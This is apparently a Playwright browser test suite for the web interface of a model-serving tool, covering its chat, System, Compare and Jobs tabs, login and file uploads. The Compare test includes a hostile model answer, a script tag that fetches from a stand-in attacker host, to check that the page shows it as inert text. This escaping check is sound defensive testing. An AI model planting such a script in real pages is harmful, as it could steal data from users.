"""The mounted page in a real browser, against a fake Litmus server: what lies around the chat, and the System, Compare and Jobs tabs."""

import json
import re
from pathlib import Path

import pytest
from browser import CHROMIUM, flashing, violations
from fastapi import FastAPI
from playwright.sync_api import Locator, Page, expect

from tests.ui import fakejobs
from tests.ui.chatting import QUESTION, ask, ask_until_taken, conversation, expect_answer, score, wait_until
from tests.ui.fakelitmus import KEY, Fake, running
from tests.ui.samples import HOSTILE, MARKDOWN
from ui.jobs.client import TUNING_OFF
from ui.page import mount
from ui.visitors import Visitors

pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason=f"{CHROMIUM} is not installed")

BOLD = """async () => {
    for (const [id, font] of [["bold-text", "var(--font)"], ["bold-code", "var(--font-mono)"]]) {
        const words = Object.assign(document.createElement("b"), { id, textContent: "Zebras quickly judge: 90 of 100" });
        document.body.append(words);
        words.style = `font-family: ${font}; font-weight: 600`;
    }
    await document.fonts.ready;
}"""


def test_the_bar_says_what_is_served_and_a_phone_does_not_scroll_sideways(loaded: Page):
    loaded.locator("header.litmus summary").click()
    for words in ("nf4, computing in bfloat16", "4,096 tokens", "storyteller-base"):
        expect(loaded.get_by_text(words, exact=True)).to_be_visible()
    for tab in ("Score", "Chat"):
        loaded.get_by_role("tab", name=tab).click()
        assert loaded.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")


def test_until_its_scripts_are_there_the_page_says_that_it_loads(fake: Fake, page_url: str, tab: Page):
    said = "getComputedStyle(document.body, '::before').content"
    tab.route("**/assets/*.js", lambda call: call.abort())
    tab.goto(page_url)
    assert tab.evaluate(said) == '"Litmus is loading…"'
    tab.unroute_all()
    tab.goto(page_url)
    expect(tab.locator("header.litmus")).to_be_visible()
    assert tab.evaluate(said) == "none"


def test_a_small_phone_shows_the_first_words_and_its_buttons_in_line(several: Page):
    several.set_viewport_size({"width": 320, "height": 440})
    room, lead = several.get_by_role("log").bounding_box(), several.locator(".empty .lead").bounding_box()
    assert lead["y"] >= room["y"] and several.locator(".empty").bounding_box()["height"] > room["height"]
    several.get_by_role("button", name="Conversations").click()
    assert len(set(several.locator(".shelf .tools button").evaluate_all("all => all.map((each) => each.offsetHeight)"))) == 1


def test_bold_letters_are_of_the_fonts_that_the_page_brings(loaded: Page):
    loaded.evaluate(BOLD)
    devtools = loaded.context.new_cdp_session(loaded)
    for call in ("DOM.enable", "CSS.enable"):
        devtools.send(call)
    root = devtools.send("DOM.getDocument")["root"]["nodeId"]
    for part in ("#bold-text", "#bold-code"):
        node = devtools.send("DOM.querySelector", {"nodeId": root, "selector": part})["nodeId"]
        fonts = devtools.send("CSS.getPlatformFontsForNode", {"nodeId": node})["fonts"]
        assert [each["isCustomFont"] for each in fonts] == [True]
    devtools.detach()


def test_a_page_opened_while_the_server_loads_goes_on_by_itself(fake: Fake, page_url: str, tab: Page):
    fake.loading = {"storyteller": {"stage": "staging", "done_bytes": 1, "total_bytes": 4}}
    tab.goto(page_url)
    expect(tab.get_by_text("The server is loading storyteller (staging, 25% of 0 MB). This page goes on")).to_be_visible(timeout=20_000)
    ask(tab, QUESTION)
    expect(tab.locator("#live")).to_contain_text("Your question is sent when it is ready.")
    score(tab, "A text.")
    expect(tab.get_by_text("Your text is scored when it is ready.")).to_be_visible()
    fake.loading = None
    expect(tab.get_by_text("storyteller · nf4 · 4,096 tokens")).to_be_visible(timeout=20_000)
    expect(tab.get_by_role("heading", name="Reads like machine text")).to_be_visible()
    tab.get_by_role("tab", name="Chat").click()
    expect_answer(tab)


def test_the_content_security_policy_blocks_other_origins(fake: Fake, page_url: str, tab: Page):
    tab.goto(page_url)
    expect(tab.get_by_text("storyteller · nf4 · 4,096 tokens")).to_be_visible()
    tab.evaluate("document.addEventListener('securitypolicyviolation', event => window.blocked = event.blockedURI)")
    tab.evaluate("new Image().src = 'http://example.invalid/pixel.png'")
    tab.wait_for_function("window.blocked === 'http://example.invalid/pixel.png'")


def test_with_keys_the_page_asks_for_one_and_then_works(fake: Fake, tab: Page):
    fake.keys = [KEY]
    with running(mount(FastAPI(), Visitors(fake.url, login=True))) as url:
        tab.goto(f"{url}/ui")
        tab.get_by_label("Key").fill("wrong")
        tab.get_by_role("button", name="Log in").click()
        expect(tab.get_by_role("alert")).to_have_text("This key is not one of this server's keys.")
        tab.get_by_label("Key").fill(KEY)
        tab.get_by_role("button", name="Log in").click()
        expect(tab.get_by_text("storyteller · nf4 · 4,096 tokens")).to_be_visible(timeout=20_000)
        tab.get_by_text("Tell me a story about a fox and a crow.").click()  # an example
        expect(tab.get_by_role("textbox", name="Message", exact=True)).to_have_value("Tell me a story about a fox and a crow.")
        ask(tab, QUESTION)
        expect_answer(tab)
        fake.keys = ["another"]
        ask_until_taken(tab, "And then?")
        expect(conversation(tab)).to_contain_text("⚠ this key is not one of this server's keys.")
        tab.get_by_role("link", name="Log out").click()
        expect(tab.get_by_label("Key")).to_be_visible()
        tab.goto("about:blank")


def test_an_unreachable_server_says_how_to_start_one(tab: Page):
    with running(mount(FastAPI(), Visitors("http://127.0.0.1:9"))) as url:
        tab.goto(f"{url}/ui")
        expect(tab.get_by_role("alert")).to_contain_text("No Litmus server answers at http://127.0.0.1:9. Start one with `make run`")
        ask(tab, QUESTION)
        expect(conversation(tab)).to_contain_text("No Litmus server answers")
        expect(tab.get_by_role("textbox", name="Message", exact=True)).to_have_value(QUESTION)
        tab.goto("about:blank")


def test_the_system_tab_is_live_only_while_it_is_open(loaded: Page, fake: Fake):
    assert fake.looks == 0
    loaded.get_by_role("tab", name="System").click()
    expect(
        loaded.get_by_role("img", name=re.compile("Tokens written, tokens per second, over the last 1 minute; now: storyteller 0"))
    ).to_be_visible()
    expect(loaded.get_by_text("1 of 1 model ready")).to_be_visible()
    expect(loaded.get_by_text("served · 3 requests in flight · 412 MB")).to_be_visible()
    assert loaded.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
    fields = [loaded.get_by_label(name).bounding_box() for name in ("Model to estimate", "Its quantization", "It computes in")]
    assert fields[0]["width"] > 280 and fields[1]["y"] == fields[2]["y"]
    fake.holds_estimate = True
    loaded.get_by_label("Model to estimate").fill("org/one")
    loaded.get_by_role("button", name="Estimate", exact=True).click()
    expect(loaded.get_by_role("button", name="Estimating …")).to_be_disabled()
    loaded.get_by_label("Model to estimate").fill("org/two")
    fake.holds_estimate = False
    expect(loaded.get_by_text("org/one · quantization none · computes in auto")).to_be_visible()
    for place, side in ((0, "left"), (1, "right")):
        expect(loaded.locator(".parts tr").nth(1).locator("th, td").nth(place)).to_have_css("text-align", side)
    expect(loaded.get_by_role("button", name="Estimate", exact=True)).to_be_enabled()
    loaded.get_by_role("button", name="Unload…").click()
    expect(loaded.get_by_role("alert")).to_contain_text("Name a model first")
    loaded.get_by_role("combobox", name="Name of the model").click()
    loaded.get_by_role("option", name="storyteller").click()
    loaded.get_by_role("button", name="Unload…").click()
    expect(loaded.get_by_role("button", name="No, keep it")).to_be_focused()
    assert fake.unloaded == []
    loaded.get_by_role("button", name="Yes, unload it").press("Enter")
    expect(loaded.get_by_text("storyteller is being unloaded.")).to_be_visible()
    assert fake.unloaded == ["storyteller"]
    fake.overview = (403, {"error": {"message": "no", "type": "permission_error", "param": None, "code": "admin_only"}})
    expect(loaded.get_by_role("alert")).to_contain_text("This tab is for administrators")
    expect(loaded.get_by_role("button", name="Unload…")).to_be_hidden()
    fake.overview = Fake().overview
    loaded.get_by_role("tab", name="Chat").click()
    looks = fake.looks
    loaded.get_by_role("tab", name="System").click()
    wait_until(loaded, lambda: fake.looks > looks)  # it looks again when it is opened again
    expect(loaded.get_by_text("1 of 1 model ready")).to_be_visible()


def test_two_answers_are_compared_stopped_and_copied(several: Page, fake: Fake):
    several.get_by_role("tab", name="Compare").click()
    expect(several.get_by_role("combobox", name="Model A")).to_have_value("storyteller")
    expect(several.get_by_role("combobox", name="Model B")).to_have_value("base")
    assert several.locator("#compare-actions .block").bounding_box()["width"] > 280
    several.get_by_label("Seed B").fill("7")
    expect(several.get_by_role("list", name="What differs")).to_contain_text("Seed A: random B: 7")
    several.get_by_label("Prompt for both").fill(QUESTION)
    several.get_by_label("Prompt for both").press("Shift+Enter")
    left, right = several.get_by_role("region", name="Answer A"), several.get_by_role("region", name="Answer B")
    for side in (left, right):
        expect(side).to_contain_text("a time <b>a fox</b> met")
        expect(side).to_contain_text("finished")
        expect(side.get_by_text("Total time")).to_be_visible()
    assert {body["model"]: body.get("seed") for body in fake.requests} == {"storyteller": None, "base": 7}
    assert several.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
    assert right.bounding_box()["y"] > left.bounding_box()["y"], "a phone shows one below the other"
    with flashing(right, "Copied"):
        right.get_by_role("button", name="Copy answer B").click()
    fake.words, fake.thoughts, fake.finish_reason = [MARKDOWN, HOSTILE], ["Hm."], "length"
    expect(several.get_by_role("button", name="Compare", exact=True)).to_be_enabled()
    several.get_by_role("button", name="Compare", exact=True).click()
    expect(left.locator("strong")).to_have_text("bold")
    expect(left.locator("td").first).to_have_text("Mercury")
    expect(left).to_contain_text("The answer was cut: it reached the limit of tokens.")
    expect(left).to_contain_text("<script>fetch('http://evil.invalid/c')</script>")
    expect(left.get_by_text("Hm.")).to_be_hidden()
    left.get_by_text("Thought").click()
    expect(left.get_by_text("Hm.")).to_be_visible()
    assert left.locator("img, script, iframe, image, [href^=javascript]").count() == 0
    assert violations(several) == []
    fake.thoughts, fake.finish_reason = [], "stop"
    fake.words, fake.wait_s = ["time "] * 2000, 0.1
    expect(several.get_by_role("button", name="Compare", exact=True)).to_be_enabled()
    several.get_by_role("button", name="Compare", exact=True).click()
    expect(right).to_contain_text("time time")
    several.get_by_role("button", name="Stop both").click()
    expect(left).to_contain_text("stopped")
    expect(right).to_contain_text("stopped")
    assert fake.disconnected.wait(60)


TABLES = {  # each text is read whole, or the line is named
    "text\nHello, this; is a text\n": "1 text to score. The first begins: “Hello, this; is a text”",
    'id;text;\n1;"The bus was late, so I walked";\n': "The first begins: “The bus was late, so I walked”",
    "id\ttext\n1\tone, two; three\n": "The first begins: “one, two; three”",
    "sep=;\nid;text\n1;one, two\n": "1 text to score. The first begins: “one, two”",
    '"sep=|"\r\nid|text\r\n1|one, two|x\r\n': "Line 3: it has 3 cells, the first line has 2. Put a text that has a | in quotation marks.",
    'id,text\r1,"Hello,\rall, of you"\r2,Another\r': "2 texts to score. The first begins: “Hello,\rall, of you”",
    'id,text\r\n1,"two\rlines"\r2,a\r3,a,b\r': "Line 5: it has 3 cells",
    "text,label\nshort,human\nHello, this,human\n": "Line 3: it has 3 cells, the first line has 2. Put a text",
}
ENCODED = [  # text, encoding, and what is said of the file
    ("The café was crowded.", "utf-8-sig", "The first begins: “The café was crowded.”"),
    ("The café was crowded.", "utf-16", "The first begins: “The café was crowded.”"),
    ("The café was crowded.", "cp1252", "This file is not in UTF-8, so its letters cannot be told. Save it as UTF-8, or read it"),
    ("老国王走向大海。", "gbk", "This file is not in UTF-8"),
    ("one\x01two", "utf-8", "This is no text file: it has characters that no text has."),
    ("The café was crowded.", "utf-32", "This is no text file"),
    ("One fox.\rTwo foxes.\r", "utf-8", "2 texts to score. The first begins: “One fox.”"),
    ("A fox.\x1a", "utf-8", "The first begins: “A fox."),
]
CSV = 'name,text\na,"One ""quoted"", text\nof two lines"\n\na,Another <b>text</b>\n,\n'


@pytest.fixture
def jobs(page: Page) -> Page:
    page.get_by_role("tab", name="Jobs").click()
    expect(page.get_by_text("There is no batch yet.")).to_be_visible(timeout=20_000)
    return page


def choose(page: Page, form: str, label: str, name: str, content: str, encoding: str = "utf-8") -> Locator:
    chosen = page.get_by_role("form", name=form)
    chosen.get_by_label(label).set_input_files({"name": name, "mimeType": "text/plain", "buffer": content.encode(encoding)})
    return chosen


def look_again(page: Page) -> None:
    """A tab that is opened asks at once."""
    page.get_by_role("tab", name="Chat").click()
    page.get_by_role("tab", name="Jobs").click()


def test_texts_become_a_batch_of_scores_that_is_watched_cancelled_and_saved(jobs: Page, fake: Fake):
    form = choose(jobs, "Start a batch", "File", "essays.csv", 'name,text\n"open')
    expect(form.get_by_text("Line 2: a quotation mark opens a cell and none closes it.")).to_be_visible()
    for content, said in TABLES.items():
        choose(jobs, "Start a batch", "File", "essays.csv", content)
        expect(form.get_by_text(said)).to_be_visible()
    for content, encoding, said in ENCODED:
        choose(jobs, "Start a batch", "File", "essays.txt", content, encoding)
        expect(form.get_by_text(said)).to_be_visible()
    choose(jobs, "Start a batch", "File", "essays.csv", CSV)
    expect(form.get_by_text('2 texts to score. The first begins: “One "quoted", text')).to_be_visible()
    form.get_by_role("button", name="Start the batch").click()
    expect(form.get_by_text("The batch has begun.")).to_be_visible()
    lines = [json.loads(line) for line in fake.jobs.files["file-0"].splitlines()]
    assert [(line["custom_id"], line["body"]["text"]) for line in lines] == [
        ("a", 'One "quoted", text\nof two lines'),
        ("line 5", "Another <b>text</b>"),
    ]
    assert {line["url"] for line in lines} == {"/v1/score"} and fake.jobs.started[0]["metadata"] == {"name": "essays.csv"}
    batches = jobs.get_by_role("region", name="Batches")
    expect(batches).to_contain_text("essays.csv checking the file")
    fake.jobs.batches[0] |= {"status": "in_progress"}
    cancel = batches.get_by_role("button", name="Cancel")
    cancel.focus()
    expect(batches).to_contain_text("412 of 1,000 lines, 3 of them without an answer")
    jobs.keyboard.press("Enter")
    jobs.keyboard.press("Enter")
    expect(batches).to_contain_text("essays.csv cancelled")
    fake.jobs.batches[0] |= {"status": "completed", "output_file_id": "file-1"}
    fake.jobs.files["file-1"] = fakejobs.OUTPUT.encode()
    look_again(jobs)
    with jobs.expect_download() as download:
        batches.get_by_role("button", name="Scores as CSV").click()
    row = Path(download.value.path()).read_text(encoding="utf-8-sig").splitlines()[1]
    assert row.startswith("line 1,,machine,0.9,0.8,0.95,fast_detect,2.5,1.9,") and ',storyteller,"nf4, computing in bfloat16",' in row
    with jobs.expect_download() as download:
        batches.get_by_role("link", name="Answers (JSONL)").click()
    assert Path(download.value.path()).read_text() == fakejobs.OUTPUT


def test_a_job_is_started_its_curve_grows_and_what_is_off_is_said(jobs: Page, fake: Fake):
    form = choose(jobs, "Start fine-tuning", "Conversations to learn", "poems.jsonl", '{"messages": []}\n')
    form.get_by_label("Epochs").fill("2")
    form.get_by_label("Suffix").fill("alice")
    fake.jobs.refusal = "line 1: 'messages' is empty"
    form.get_by_role("button", name="Start fine-tuning").click()
    expect(form.get_by_text("line 1: 'messages' is empty.")).to_be_visible()
    fake.jobs.refusal = ""
    form.get_by_role("button", name="Start fine-tuning").click()
    tunings = jobs.get_by_role("region", name="Fine-tuning jobs")
    expect(tunings).to_contain_text("poems.jsonl waiting for its turn")
    expect(tunings).to_contain_text("The curve begins with the first step.")
    assert fake.jobs.started[0]["model"] == "storyteller" and fake.jobs.started[0]["suffix"] == "alice"
    fake.jobs.events = {"ftjob-queued": fakejobs.metrics(10, 40)}
    fake.jobs.tunings[0] |= {"status": "running"}
    look_again(jobs)
    expect(tunings.get_by_role("img", name="Loss up to step 10 of 40")).to_be_visible()
    fake.jobs.batches = [
        fakejobs.batch("failed", errors={"data": [{"message": "no JSON", "line": 3}]}),
        fakejobs.batch("completed", output_file_id="f"),
    ]
    look_again(jobs)
    expect(jobs.get_by_text("Line 3: no JSON")).to_be_visible()
    assert violations(jobs) == []
    assert jobs.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
    fake.jobs.has_tuning = False
    look_again(jobs)
    expect(tunings).to_contain_text(TUNING_OFF)
    expect(form).to_be_hidden()
